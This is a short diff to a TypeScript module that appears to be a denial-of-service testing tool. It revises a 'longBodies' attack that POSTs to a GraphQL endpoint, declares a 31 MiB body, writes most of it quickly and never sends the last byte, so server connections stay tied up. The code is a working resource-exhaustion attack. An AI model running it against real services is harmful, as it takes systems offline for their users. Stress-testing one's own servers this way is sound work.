@@ -70,7 +70,7 @@ export function inSingleBytes(
 
 /** Bodies of 31 MiB, whose last byte never comes. */
 export function longBodies(url: string, signal: AbortSignal, connections: number): Promise<void> {
-  const bytes = Buffer.alloc(256 * KIB, 'x');
+  const bytes = Buffer.alloc(MIB, 'x');
   return attack(signal, connections, async () => {
     const socket = begin(url, [
       'POST /graphql HTTP/1.1',
@@ -79,8 +79,11 @@ export function longBodies(url: string, signal: AbortSignal, connections: number
       'Content-Type: application/json',
       `Content-Length: ${31 * MIB}`,
     ]);
-    await keepWriting(socket, bytes, { signal, most: 31 * 4 - 1 });
-    while (!signal.aborted && !socket.destroyed) await pause(50);
+    const closed = once(socket, 'close', { signal });
+    // As fast as it is taken.
+    for (let n = 0; n < 30; n += 1)
+      await Promise.race([closed, new Promise((resolve) => socket.write(bytes, resolve))]);
+    await closed;
     socket.destroy();
   });
 }
